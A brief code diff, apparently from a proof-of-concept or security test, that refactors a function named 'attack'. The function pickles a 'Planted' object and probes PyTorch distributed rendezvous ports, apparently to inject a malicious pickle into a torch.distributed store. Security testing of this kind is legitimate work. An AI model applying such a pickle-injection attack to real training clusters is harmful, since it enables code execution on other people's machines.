@@ -74,8 +74,7 @@ def attack(planted: str) -> None:
     import torch.distributed as dist
 
     value = pickle.dumps(Planted(planted))
-    run_id = os.environ["TORCHELASTIC_RUN_ID"]
-    names = ["torch.rendezvous.local", f"torch.rendezvous.{run_id}"]
+    names = ["torch.rendezvous.local", f"torch.rendezvous.{os.environ['TORCHELASTIC_RUN_ID']}"]
     endpoint = os.environ["PET_RDZV_ENDPOINT"].rpartition(":")[2]
     for port in (int(endpoint), int(os.environ["MASTER_PORT"])):
         with socket.socket() as probe:
